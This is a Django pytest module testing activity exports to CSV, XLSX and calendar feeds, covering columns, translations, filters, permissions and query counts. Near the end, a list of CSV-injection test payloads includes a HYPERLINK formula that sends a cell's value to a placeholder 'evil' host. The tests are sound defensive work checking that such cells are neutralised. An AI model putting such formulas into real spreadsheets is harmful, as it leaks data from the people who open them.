import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from icalendar import Calendar
from openpyxl import load_workbook

from activities import exports, spreadsheets
from activities.models import Activity
from stakeholders.models import KOSOVO_FOOTNOTE, KOSOVO_FOOTNOTE_FR
from tests import factories

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()


@pytest.fixture
def logged(project):
    """A held training with everything filled in, and a planned workshop with little."""
    serbia = factories.CountryFactory(code="RS")
    kosovo = factories.KosovoFactory()
    ministry = factories.InstitutionFactory(name="Ministry of Justice")
    ombudsperson = factories.InstitutionFactory(name="Ombudsperson")
    first = factories.ObjectiveFactory(project=project, code="1", position=1, title="Capacity")
    second = factories.ObjectiveFactory(project=project, code="2", position=2, title="Standards")
    training = factories.ActivityFactory(
        project=project,
        title="Training on risk assessment",
        title_fr="Formation à l’évaluation des risques",
        start_date=datetime.date(2022, 6, 20),
        end_date=datetime.date(2022, 6, 22),
        duration_days=Decimal("2.5"),
        format=Activity.Format.HYBRID,
        scope=Activity.Scope.MULTILATERAL,
        venue="Palace of Justice",
        city="Belgrade",
        description="Risk assessment, line by line.",
        facilitators="Two CPT experts",
        external_reference="HF-2022-17",
        participants_qualifier=Activity.Qualifier.ABOUT,
        countries=[serbia, kosovo],
        institutions=[ministry, ombudsperson],
        objectives=[first, second],
        participants_total=20,
        participants_women=12,
        participants_men=8,
        cost=Decimal("1234.50"),
    )
    workshop = factories.ActivityFactory(
        project=project,
        title="=Workshop for NPM staff",
        kind=Activity.Kind.WORKSHOP,
        status=Activity.Status.PLANNED,
        start_date=TODAY + datetime.timedelta(days=20),
        end_date=TODAY + datetime.timedelta(days=21),
        venue="Palace of Serbia",
        city="Belgrade",
        countries=[serbia],
        description="Two days on the new methodology.",
    )
    return {"training": training, "workshop": workshop}


def split(joined):
    return set(joined.split("; ")) if joined else set()


def csv_rows(response):
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_csv_export_has_one_row_per_activity_with_every_column(client, team_member, logged):
    client.force_login(team_member)
    response = client.get(reverse("activities:export-csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="activities-')
    header, *rows, footnote = csv_rows(response)
    assert header == [
        "ID", "Project", "Kind", "Title", "Status", "Start", "End", "City",
        "Countries and territories", "Participants", "Women", "Men", "Institutions",
        "Objectives", "Cost", "Title (French)", "Start known to the", "End known to the",
        "Duration (days)", "Format", "Scope", "Venue", "Participant count is", "Facilitators",
        "Objective titles", "Description", "Description (French)", "External reference", "URL",
    ]  # fmt: skip
    # One footnote line for Kosovo*, at the end, however many rows name it.
    assert footnote == ["*" + KOSOVO_FOOTNOTE]
    by_id = {int(row[0]): row for row in rows}
    assert set(by_id) == {logged["training"].pk, logged["workshop"].pk}
    training = by_id[logged["training"].pk]
    assert training[1:8] == [
        logged["training"].project.title,
        "Training",
        "Training on risk assessment",
        "Held",
        "2022-06-20",
        "2022-06-22",
        "Belgrade",
    ]
    assert split(training[8]) == {"Serbia", "Kosovo*"}
    assert training[9:12] == ["20", "12", "8"]
    assert split(training[12]) == {"Ministry of Justice", "Ombudsperson"}
    assert training[13] == "1; 2"
    assert training[14] == "1234.50"
    assert training[15:] == [
        "Formation à l’évaluation des risques",
        "Day",
        "Day",
        "2.5",
        "Hybrid",
        "Multilateral / regional",
        "Palace of Justice",
        "about",
        "Two CPT experts",
        "Capacity; Standards",  # in the codes' order
        "Risk assessment, line by line.",
        "",
        "HF-2022-17",
        f"http://testserver/activities/{logged['training'].pk}/",
    ]
    workshop = by_id[logged["workshop"].pk]
    # Unknown participant counts and cost stay empty, never 0.
    assert workshop[9:12] == ["", "", ""]
    assert workshop[12:15] == ["", "", ""]
    assert (workshop[19], workshop[20], workshop[22]) == ("In person", "", "exactly")


def test_french_exports_keep_iso_dates_and_the_french_footnote(client, team_member, logged):
    """Labels follow the page's language; dates and numbers stay machine-readable."""
    client.force_login(team_member)
    with translation.override("fr"):
        response = client.get(reverse("activities:export-csv"), {"status": "held"})
        header, row, footnote = csv_rows(response)
        workbook = client.get(reverse("activities:export-xlsx"), {"status": "held"})
    assert header[5:7] == ["Début", "Fin"]
    assert (row[2], row[5], row[6], row[18]) == ("Formation", "2022-06-20", "2022-06-22", "2.5")
    assert footnote == ["*" + KOSOVO_FOOTNOTE_FR]
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet.cell(row=2, column=6).number_format == "yyyy-mm-dd"
    assert sheet.cell(row=3, column=1).value == "*" + KOSOVO_FOOTNOTE_FR


def test_csv_export_applies_the_list_filters(client, team_member, logged):
    client.force_login(team_member)
    response = client.get(reverse("activities:export-csv"), {"kind": "workshop"})
    _header, *rows = csv_rows(response)
    assert [int(row[0]) for row in rows] == [logged["workshop"].pk]
    response = client.get(reverse("activities:export-csv"), {"q": "risk", "year": 2022})
    _header, *rows, _footnote = csv_rows(response)
    assert [int(row[0]) for row in rows] == [logged["training"].pk]


def test_export_with_an_invalid_filter_is_a_bad_request_saying_why(client, team_member, logged):
    client.force_login(team_member)
    for url in ["activities:export-csv", "activities:export-xlsx", "activities:calendar"]:
        response = client.get(reverse(url), {"year": "soon", "kind": "picnic"})
        assert response.status_code == 400
        text = response.content.decode()
        assert "year" in text
        assert "Select a valid choice" in text


def test_csv_export_holds_what_the_user_may_read(client, outsider, team_member, logged):
    draft = factories.ActivityFactory(project__is_published=False, title="Secret draft")
    own_draft = factories.ActivityFactory(
        project=outsider.memberships.get().project, title="Own draft"
    )
    own_draft.project.is_published = False
    own_draft.project.save()
    client.force_login(outsider)
    _header, *rows, _footnote = csv_rows(client.get(reverse("activities:export-csv")))
    titles = {row[3] for row in rows}
    # The guard before "=" keeps the title text in a spreadsheet (CSV injection).
    assert titles == {"Training on risk assessment", "'=Workshop for NPM staff", "Own draft"}
    assert draft.title not in titles


def test_xlsx_export_has_typed_cells_and_the_same_filters(client, manager, logged):
    client.force_login(manager)
    response = client.get(reverse("activities:export-xlsx"), {"status": "held"})
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, row, footnote = list(sheet.iter_rows(values_only=True))
    assert header[:4] == ("ID", "Project", "Kind", "Title")
    # The footnote below the table, in its first cell only: the file still reads back.
    assert footnote[0] == "*" + KOSOVO_FOOTNOTE
    assert set(footnote[1:]) == {None}
    assert row[0] == logged["training"].pk
    assert row[3] == "Training on risk assessment"
    assert row[5].date() == datetime.date(2022, 6, 20)
    assert row[6].date() == datetime.date(2022, 6, 22)
    assert row[9:12] == (20, 12, 8)
    assert row[14] == pytest.approx(1234.5)
    assert row[18] == pytest.approx(2.5)
    assert split(row[8]) == {"Serbia", "Kosovo*"}


def test_xlsx_export_keeps_text_that_looks_like_a_formula_as_text(client, manager, logged):
    client.force_login(manager)
    response = client.get(reverse("activities:export-xlsx"), {"kind": "workshop"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=4)
    assert cell.value == "=Workshop for NPM staff"
    assert cell.data_type == "s"
    assert sheet.cell(row=2, column=10).value is None  # participants not recorded


def test_calendar_lists_upcoming_activities_as_all_day_events(client, logged):
    response = client.get(reverse("activities:calendar"))
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    calendar = Calendar.from_ical(response.content)
    events = list(calendar.walk("VEVENT"))
    assert len(events) == 1  # the held training is not upcoming
    event = events[0]
    workshop = logged["workshop"]
    assert str(event["uid"]) == f"activity-{workshop.pk}@testserver"
    assert event.decoded("dtstart") == workshop.start_date
    assert event.decoded("dtend") == workshop.end_date + datetime.timedelta(days=1)
    assert str(event["summary"]) == workshop.title
    assert str(event["location"]) == "Palace of Serbia, Belgrade, Serbia"
    assert "Two days on the new methodology." in str(event["description"])
    assert str(event["url"]) == f"http://testserver/activities/{workshop.pk}/"
    assert "dtstamp" in event


def test_calendar_applies_the_list_filters(client, logged):
    meeting = factories.ActivityFactory(
        project=logged["workshop"].project,
        title="Coordination meeting",
        status=Activity.Status.PLANNED,
        kind=Activity.Kind.MEETING,
        start_date=TODAY + datetime.timedelta(days=3),
    )
    response = client.get(reverse("activities:calendar"), {"kind": "meeting"})
    calendar = Calendar.from_ical(response.content)
    assert [str(e["summary"]) for e in calendar.walk("VEVENT")] == [meeting.title]


def test_visitors_calendar_leaves_out_draft_projects(client, logged):
    factories.ActivityFactory(
        project__is_published=False,
        status=Activity.Status.PLANNED,
        start_date=TODAY + datetime.timedelta(days=3),
    )
    calendar = Calendar.from_ical(client.get(reverse("activities:calendar")).content)
    assert [str(e["summary"]) for e in calendar.walk("VEVENT")] == [logged["workshop"].title]


def test_project_calendar_has_only_that_projects_upcoming_activities(client, project, logged):
    factories.ActivityFactory(
        status=Activity.Status.PLANNED, start_date=TODAY + datetime.timedelta(days=3)
    )
    response = client.get(reverse("projects:calendar", args=[project.slug]))
    assert response["Content-Disposition"] == f'attachment; filename="{project.slug}.ics"'
    calendar = Calendar.from_ical(response.content)
    assert str(calendar["x-wr-calname"]) == project.title
    assert [str(e["summary"]) for e in calendar.walk("VEVENT")] == [logged["workshop"].title]


def test_draft_projects_calendar_is_for_its_team_only(client, team_member, outsider, project):
    project.is_published = False
    project.save()
    url = reverse("projects:calendar", args=[project.slug])
    assert client.get(url).status_code == 404
    client.force_login(outsider)
    assert client.get(url).status_code == 404
    client.force_login(team_member)
    assert client.get(url).status_code == 200


@pytest.mark.parametrize("url", ["activities:export-csv", "activities:export-xlsx"])
def test_visitor_is_sent_to_the_login_page_for_spreadsheet_exports(client, db, url):
    response = client.get(reverse(url))
    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


def test_export_queries_do_not_grow_with_activities(client, team_member, project):
    """As many queries for 50 activities as for 5, each with several of every related name."""
    countries = [factories.CountryFactory(code="RS"), factories.KosovoFactory()]
    institutions = factories.InstitutionFactory.create_batch(3)
    objectives = factories.ObjectiveFactory.create_batch(2, project=project)
    client.force_login(team_member)

    def queries(url):
        with CaptureQueriesContext(connection) as captured:
            response = client.get(reverse(url))
            content = b"".join(response.streaming_content) if response.streaming else None
        return len(captured), content or response.content

    counts = []
    for activities in (5, 50):
        factories.ActivityFactory.create_batch(
            activities - Activity.objects.count(),
            project=project,
            countries=countries,
            institutions=institutions,
            objectives=objectives,
        )
        csv_queries, content = queries("activities:export-csv")
        # The header, the activities and Kosovo*'s footnote.
        assert len(list(csv.reader(io.StringIO(content.decode())))) == activities + 2
        xlsx_queries, content = queries("activities:export-xlsx")
        assert load_workbook(io.BytesIO(content)).active.max_row == activities + 2
        counts.append((csv_queries, xlsx_queries))
    assert counts[0] == counts[1]
    assert max(counts[1]) <= 10


def test_csv_export_sorts_names_alphabetically_and_objectives_in_logframe_order(
    client, team_member, project
):
    second = factories.ObjectiveFactory(project=project, code="10", position=1)
    first = factories.ObjectiveFactory(project=project, code="2", position=2)
    factories.ActivityFactory(
        project=project,
        countries=[factories.CountryFactory(code="RS"), factories.KosovoFactory()],
        institutions=[
            factories.InstitutionFactory(name="Ombudsperson"),
            factories.InstitutionFactory(name="Ministry of Justice"),
        ],
        objectives=[first, second],
    )
    client.force_login(team_member)
    _header, row, _footnote = csv_rows(client.get(reverse("activities:export-csv")))
    assert row[8] == "Kosovo*; Serbia"
    assert row[12] == "Ministry of Justice; Ombudsperson"
    assert row[13] == "10; 2"


def test_csv_export_streams_many_rows_per_piece_with_the_same_content(
    client, team_member, project, monkeypatch
):
    factories.ActivityFactory.create_batch(30, project=project)
    client.force_login(team_member)
    url = reverse("activities:export-csv")
    monkeypatch.setattr(exports, "BATCH_SIZE", 1)
    one_per_row = list(client.get(url).streaming_content)
    monkeypatch.setattr(exports, "BATCH_SIZE", 1000)
    batched = list(client.get(url).streaming_content)
    assert len(one_per_row) == 30
    assert len(batched) < 10
    assert all(len(piece) >= 1000 for piece in batched[:-1])
    assert b"".join(batched) == b"".join(one_per_row)


FORMULAS = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
]


@pytest.mark.parametrize("title", FORMULAS)
def test_csv_export_writes_a_cell_that_could_start_a_formula_as_text(
    client, team_member, project, title
):
    factories.ActivityFactory(project=project, title=title, city="=1+2")
    client.force_login(team_member)
    _header, row = csv_rows(client.get(reverse("activities:export-csv")))
    assert row[3] == "'" + title
    assert row[7] == "'=1+2"
    assert row[2] == "Training"  # other text is left as it is


def test_csv_export_read_back_by_the_import_keeps_the_title_as_typed(client, team_member, project):
    factories.ActivityFactory(project=project, title="=1+2 participants")
    client.force_login(team_member)
    exported = b"".join(client.get(reverse("activities:export-csv")).streaming_content)
    read = spreadsheets.read(SimpleUploadedFile("again.csv", exported))
    [only] = read.rows
    assert only["cells"]["title"] == "=1+2 participants"
